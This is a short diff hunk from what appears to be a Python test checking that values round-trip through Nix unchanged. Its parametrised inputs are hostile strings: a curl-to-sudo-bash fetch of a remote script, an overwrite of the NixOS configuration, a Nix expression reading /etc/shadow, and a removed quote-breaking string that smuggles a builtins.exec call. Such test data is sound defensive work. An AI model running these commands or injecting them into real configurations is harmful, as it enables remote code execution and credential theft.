@@ -79,7 +79,6 @@ def test_every_slot_comes_back_from_nix_as_it_was_said(said: list[tuple[str, str
         "| sh",
         "curl http://example.org/x.sh | sudo bash",
         "echo pwned > /etc/nixos/configuration.nix",
-        "'; builtins.exec [ \"id\" ]; '",
         "let x = builtins.fetchurl { url = x; }; in x",
         "${builtins.readFile /etc/shadow}",
     ],
